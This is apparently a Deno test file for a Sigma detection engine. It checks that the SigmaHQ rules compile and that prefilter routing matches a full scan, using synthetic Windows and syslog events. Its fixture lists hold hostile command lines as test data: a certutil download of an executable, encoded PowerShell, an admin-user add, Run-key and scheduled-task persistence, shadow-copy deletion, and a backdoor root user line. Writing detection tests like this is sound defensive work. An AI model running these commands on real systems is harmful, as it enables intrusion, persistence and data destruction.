/**
 * The SigmaHQ corpus (../shared/sigmahq, ~3,800 rules) compiles: at least
 * 99 % of the rules, and every rejection carries a file and a reason.
 * Also checks that Windows EVTX JSON events route to SigmaHQ rules.
 */
import assert from "node:assert/strict";
import { loadRuleSet } from "../../../stages/detector/sigma/load.ts";
import { SigmaDetector } from "../../../stages/detector/sigma/engine.ts";
import { event } from "./_helpers.ts";
import { EventView } from "../../../stages/detector/sigma/fields.ts";

const CORPUS = new URL("../../../../shared/sigmahq/", import.meta.url);

let available = true;
try {
  Deno.statSync(CORPUS);
} catch {
  available = false;
}

Deno.test({
  name: available
    ? "SigmaHQ corpus: at least 99% of the rules compile"
    : "SigmaHQ corpus: IGNORED because ../shared/sigmahq is not beside the repo",
  ignore: !available,
  async fn() {
    const set = await loadRuleSet([CORPUS.pathname]);
    const compiled = set.rules.length + set.correlations.length + set.filters;
    const total = compiled + set.errors.length;
    const share = compiled / total;
    console.log(
      `SigmaHQ: ${total} documents, ${compiled} compiled (${
        (share * 100).toFixed(2)
      }%), ${set.errors.length} rejected`,
    );
    for (const e of set.errors) {
      console.log(
        `  rejected ${e.file.replace(CORPUS.pathname, "")} [${
          e.ruleId ?? "-"
        }]: ${e.reason}`,
      );
      assert.ok(e.file.length > 0 && e.reason.length > 10);
    }
    assert.ok(total > 3000, `expected the full corpus, found ${total}`);
    assert.ok(share >= 0.99, `only ${(share * 100).toFixed(2)}% compiled`);

    // A Sysmon process-creation event reaches the Windows process_creation rules.
    const det = new SigmaDetector(set);
    const titles: string[] = [];
    det.observe(
      event({
        format: "windows_evtx",
        payload: {
          Event: {
            System: {
              EventID: 1,
              Channel: "Microsoft-Windows-Sysmon/Operational",
              Computer: "ws-01",
            },
            EventData: {
              Image: "C:\\Windows\\System32\\whoami.exe",
              OriginalFileName: "whoami.exe",
              CommandLine: "whoami /all",
              ParentImage: "C:\\Windows\\System32\\cmd.exe",
              User: "CORP\\bob",
            },
          },
        },
      }),
      (a) => titles.push(a.rule.title),
    );
    assert.ok(
      titles.some((t) => /whoami/i.test(t)),
      `alerts: ${titles.join("; ")}`,
    );
    // The same event under another channel is not routed to Sysmon rules.
    const none: string[] = [];
    det.observe(
      event({
        payload: {
          Event: {
            System: { EventID: 1, Channel: "Application" },
            EventData: {
              Image: "C:\\Windows\\System32\\whoami.exe",
              CommandLine: "whoami /all",
            },
          },
        },
      }),
      (a) => none.push(a.rule.title),
    );
    assert.ok(
      !none.some((t) => /whoami/i.test(t)),
      `unexpected: ${none.join("; ")}`,
    );
  },
});

const IMAGES = [
  "C:\\Windows\\System32\\svchost.exe",
  "C:\\Windows\\System32\\cmd.exe",
  "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  "C:\\Windows\\System32\\rundll32.exe",
  "C:\\Windows\\System32\\whoami.exe",
  "C:\\Windows\\System32\\certutil.exe",
  "C:\\Windows\\System32\\reg.exe",
];
const COMMANDS = [
  "cmd.exe /c dir",
  "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
  'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
  "whoami /all",
  "net user admin P@ss /add",
  "certutil -urlcache -split -f http://198.51.100.7/a.exe",
  "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe",
  "schtasks /create /tn x /tr calc.exe /sc onlogon",
  "vssadmin delete shadows /all /quiet",
  // Regex-only rules (their required literals are prefilter needs).
  "ipconfig   /all",
  "route print",
  // Emoji, Cyrillic homoglyphs and the right-to-left override (non-ASCII needs).
  "powershell -c \u{1F525}\u{1F4A5} calc",
  "\u0441md.exe /c wh\u043Eami",
  "notepad.exe invoice\u202Etxt.exe",
  "ping -n 1 127.0.0.1 & echo EEEE > c:\\temp\\x",
  '"C:\\Windows\\wsass.exe" "C:\\Windows\\System32\\werfaultsecure.exe" 612',
];

Deno.test({
  name: available
    ? "prefilter: routing with the literal index selects exactly the rules a full scan matches"
    : "prefilter: IGNORED because ../shared/sigmahq is not beside the repo",
  ignore: !available,
  async fn() {
    const set = await loadRuleSet([CORPUS.pathname]);
    const view = new EventView(set.fields);
    let matched = 0;
    for (let i = 0; i < 400; i++) {
      const image = IMAGES[i % IMAGES.length];
      const ev = event({
        format: "windows_evtx",
        payload: {
          Event: {
            System: {
              EventID: [1, 1, 3, 11, 16, 22, 4688, 13][i % 8],
              Channel: i % 8 === 6
                ? "Security"
                : "Microsoft-Windows-Sysmon/Operational",
            },
            EventData: {
              Image: image,
              NewProcessName: image,
              CommandLine: COMMANDS[i % COMMANDS.length],
              ParentImage: IMAGES[(i + 2) % IMAGES.length],
              OriginalFileName: image.split("\\").pop(),
              TargetFilename: `C:\\Users\\Public\\${
                COMMANDS[i % 3].split(" ")[0]
              }`,
              TargetObject:
                "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
              QueryName: [
                "pastebin.com",
                "example.org",
                "ngrok.io",
                "raw.githubusercontent.com",
              ][i % 4],
              DestinationPort: [4444, 443, 3389][i % 3],
            },
          },
        },
      });
      view.reset(ev as unknown as Record<string, unknown>);
      const fast = set.router.route(view).filter((r) => r.match(view)).map((
        r,
      ) => r.index);
      view.reset(ev as unknown as Record<string, unknown>);
      const full = set.router.rulesFor(view).filter((r) => r.match(view)).map((
        r,
      ) => r.index);
      assert.deepEqual(fast, full, `event ${i}`);
      matched += full.length;
    }
    // Linux syslog lines reach keyword rules, which are prefiltered too.
    const LINES = [
      "sshd[1]: Failed password for invalid user admin from 203.0.113.9 port 22 ssh2",
      "sshd[1]: error: PAM: Authentication failure for root from 203.0.113.9",
      "sshd[1]: Accepted publickey for deploy from 10.0.0.5 port 50022 ssh2",
      "sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh",
      "useradd[9]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash",
      "kernel: [ 1.0] Out of memory: Killed process 123 (java)",
      "sshd[1]: Did not receive identification string from 198.51.100.4",
    ];
    let linuxMatched = 0;
    for (let i = 0; i < 70; i++) {
      const line = LINES[i % LINES.length];
      const ev = event({
        format: "rfc3164",
        category: "auth",
        action: ["ssh_login", "sudo", "user_created"][i % 3],
        process: { name: ["sshd", "sudo", "useradd"][i % 3] },
        payload: `Nov 24 10:00:00 host-1 ${line}`,
      });
      view.reset(ev as unknown as Record<string, unknown>);
      const fast = set.router.route(view).filter((r) => r.match(view))
        .map((r) => r.index);
      view.reset(ev as unknown as Record<string, unknown>);
      const full = set.router.rulesFor(view).filter((r) => r.match(view))
        .map((r) => r.index);
      assert.deepEqual(fast, full, `line ${i}`);
      linuxMatched += full.length;
    }
    console.log(
      `prefilter: ${matched} Windows and ${linuxMatched} syslog rule matches, identical to a full scan`,
    );
    assert.ok(linuxMatched >= 5, `too few syslog matches: ${linuxMatched}`);
    assert.ok(matched > 100, `too few matches to prove anything: ${matched}`);
  },
});
